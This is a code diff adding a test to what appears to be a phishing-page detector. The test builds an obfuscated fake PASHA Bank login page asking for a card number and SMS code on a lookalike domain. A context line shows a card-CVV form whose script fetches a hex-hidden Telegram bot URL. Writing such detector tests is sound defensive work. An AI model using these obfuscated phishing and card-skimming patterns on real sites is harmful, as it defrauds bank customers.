@@ -310,6 +310,23 @@ def test_a_script_sending_secrets_to_another_domain(
     assert "page.script.offsite_sensitive" not in [r.code for r in plain.reasons]
 
 
+def test_a_page_a_script_writes_names_its_brand_there(engine: Engine) -> None:
+    """The words and images of markup a script writes count for the brand it shows (the
+    page itself holds only a script); not for the model."""
+    page = (
+        '<h2>PAŞA Bank</h2><img src="https://www.pashabank.az/logo.svg" alt="PASHA Bank">'
+        '<p>PAŞA Bank internet-bankinq</p><input name=x1 placeholder="Kart nömrəsi">'
+        '<input name=x2 placeholder="SMS kod">'
+    )
+    escaped = "".join(f"%{ord(c):02X}" if ord(c) < 128 else c for c in page)
+    html = f"<title>Giriş</title><script>document.write(decodeURIComponent('{escaped}'))</script>"
+    verdict = engine.detector("page").analyze(PageInput(html, "https://pb-secure-login.ru.com/"))
+    assert verdict.brand == "pashabank" and verdict.verdict == "malicious"
+    assert "page.brand.hotlink" in [r.code for r in verdict.reasons]
+    feats = extract(html, "https://pb-secure-login.ru.com/", load_lexicon())
+    assert feats.resources == [] and feats.hidden_resources  # the model sees no image
+
+
 def test_a_messenger_address_hidden_by_hex_escapes(engine: Engine) -> None:
     hidden = "".join(f"\\x{ord(c):02x}" for c in "https://api.telegram.org/bot123:abc/sendMessage")
     html = f'<form><input name=cvv></form><script>var u = "{hidden}"; fetch(u);</script>'
